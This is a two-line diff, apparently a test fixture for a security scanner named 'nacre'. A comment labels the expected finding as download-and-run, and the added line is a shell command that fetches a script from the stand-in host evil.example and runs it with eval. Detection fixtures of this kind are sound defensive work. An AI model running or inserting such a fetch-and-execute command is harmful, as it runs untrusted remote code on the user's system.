@@ -1,0 +1,2 @@
+# nacre: found process.download-and-run
+eval "$(curl -s https://evil.example/x)"
